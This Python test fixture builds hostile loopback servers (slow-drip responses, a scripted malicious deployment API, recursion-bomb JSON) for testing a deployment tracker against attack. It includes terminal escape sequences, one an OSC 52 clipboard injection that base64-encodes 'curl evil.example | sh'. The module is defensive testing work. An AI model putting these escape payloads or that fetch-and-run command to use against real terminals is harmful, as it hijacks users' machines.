"""Hostile servers on loopback, for the tests that try the tracker as an attacker would.

`Listener` counts every TCP connection it is offered (and what the first bytes said), to prove
that no request or login reaches a host a committed file named. `HostileApi` is an App Platform
that answers each request with a scripted `Answer`: any status, any headers, any body, sent at
once or dripped a byte at a time. `drip_server` sends the same bytes to every connection, slowly
(a MySQL handshake, or silence).
"""

from __future__ import annotations

import json
import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

SHA = "a1" * 20
DEPLOYMENT_ID = "5f0a2f3e-8c1b-4c71-9a52-1e2f5b0c7d11"

# Every kind of escape sequence a terminal acts on.
ESCAPES = {
    "osc0_title": "\x1b]0;pwned title\x07",
    "osc52_clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "clear_screen": "\x1b[2J\x1b[H",
    "c1_csi": "\x9b31m",
    "dsr": "\x1b[6n",
    "bell_backspace_cr": "\x07\x08\rspoofed",
}
EVERY_ESCAPE = "".join(ESCAPES.values())


class _Server:
    """A TCP listener on 127.0.0.1 serving each connection from a daemon thread."""

    def __init__(self, serve: Callable[[socket.socket], None]) -> None:
        self._serve = serve
        self._sock = socket.create_server(("127.0.0.1", 0))
        self._sock.settimeout(0.1)
        self.port: int = self._sock.getsockname()[1]
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    @property
    def stopping(self) -> threading.Event:
        return self._stop

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self._sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            threading.Thread(target=self._handle, args=(conn,), daemon=True).start()

    def _handle(self, conn: socket.socket) -> None:
        with conn:
            try:
                self._serve(conn)
            except OSError:
                pass  # the client gave up on us: that is the point

    def close(self) -> None:
        self._stop.set()
        self._sock.close()
        self._thread.join(timeout=2)


class Listener(_Server):
    """Counts connections and keeps the first bytes of each; answers nothing useful."""

    def __init__(self) -> None:
        self.connections = 0
        self.first_bytes: list[bytes] = []
        self._lock = threading.Lock()
        super().__init__(self._note)

    def _note(self, conn: socket.socket) -> None:
        with self._lock:
            self.connections += 1
        conn.settimeout(0.5)
        try:
            data = conn.recv(65536)
        except OSError:
            data = b""
        with self._lock:
            self.first_bytes.append(data)
        conn.sendall(b"HTTP/1.1 418 I'm a teapot\r\nContent-Length: 0\r\n\r\n")

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"


@contextmanager
def listener() -> Iterator[Listener]:
    server = Listener()
    try:
        yield server
    finally:
        server.close()


def drip_server(payload: bytes, every_s: float) -> _Server:
    """Send `payload` to every connection one byte per `every_s`, then hold the line open."""

    def serve(conn: socket.socket) -> None:
        for byte in payload:
            conn.sendall(bytes([byte]))
            if server.stopping.wait(every_s):
                return
        server.stopping.wait(60)

    server = _Server(serve)
    return server


@contextmanager
def dripping(payload: bytes, every_s: float) -> Iterator[_Server]:
    server = drip_server(payload, every_s)
    try:
        yield server
    finally:
        server.close()


# --- a hostile App Platform -----------------------------------------------------------------


@dataclass
class Answer:
    """One scripted HTTP answer. `drip_s`: send the whole response a byte at a time."""

    status: int = 200
    body: bytes | str | dict[str, Any] = b"{}"
    headers: dict[str, str] = field(default_factory=dict)
    drip_s: float = 0.0
    drip_from: int = 0  # send this many bytes at once before dripping (0: drip from the start)

    def raw(self) -> bytes:
        body = self.body
        if isinstance(body, dict):
            body = json.dumps(body)
        data = body.encode() if isinstance(body, str) else body
        head = [f"HTTP/1.1 {self.status} X", f"Content-Length: {len(data)}"]
        head += ["Content-Type: application/json", "Connection: close"]
        head += [f"{name}: {value}" for name, value in self.headers.items()]
        return ("\r\n".join(head) + "\r\n\r\n").encode("latin-1") + data


def deployment(phase: str = "BUILDING", **fields: Any) -> dict[str, Any]:
    """A deployment of `SHA` in the shape the API documents."""
    return {
        "id": DEPLOYMENT_ID,
        "services": [{"name": "web", "source_commit_hash": SHA}],
        "created_at": "2027-01-15T07:59:00Z",  # a minute before FakeClock()
        "updated_at": "2027-01-15T07:59:40Z",
        "phase": phase,
        "progress": {"success_steps": 1, "total_steps": 6},
        **fields,
    }


class HostileApi(_Server):
    """Answers every request with `answer(path_and_query)`; records when each one arrived."""

    def __init__(self, answer: Callable[[str], Answer]) -> None:
        self.answer = answer
        self.arrivals: list[tuple[float, str]] = []  # (time.monotonic(), request line)
        self._lock = threading.Lock()
        super().__init__(self._reply)

    def _reply(self, conn: socket.socket) -> None:
        conn.settimeout(5)
        data = b""
        while b"\r\n\r\n" not in data:
            chunk = conn.recv(65536)
            if not chunk:
                return
            data += chunk
        line = data.split(b"\r\n", 1)[0].decode("latin-1")
        target = line.split(" ")[1] if " " in line else "/"
        with self._lock:
            self.arrivals.append((time.monotonic(), target))
        answer = self.answer(target)
        raw = answer.raw()
        if not answer.drip_s:
            conn.sendall(raw)
            return
        conn.sendall(raw[: answer.drip_from])
        for byte in raw[answer.drip_from :]:
            conn.sendall(bytes([byte]))
            if self.stopping.wait(answer.drip_s):
                return

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def requests(self) -> int:
        with self._lock:
            return len(self.arrivals)

    def fastest_rate(self, window_s: float = 1.0) -> int:
        """The most requests that arrived within any `window_s`."""
        with self._lock:
            times = [t for t, _ in self.arrivals]
        best = 0
        for i, start in enumerate(times):
            best = max(best, sum(1 for t in times[i:] if t - start < window_s))
        return best


@contextmanager
def hostile_api(answer: Callable[[str], Answer]) -> Iterator[HostileApi]:
    server = HostileApi(answer)
    try:
        yield server
    finally:
        server.close()


def nested(depth: int) -> bytes:
    """`{"deployments": [[[[...]]]]}` nested `depth` deep: a RecursionError for a naive parser."""
    return b'{"deployments": ' + b"[" * depth + b"]" * depth + b"}"
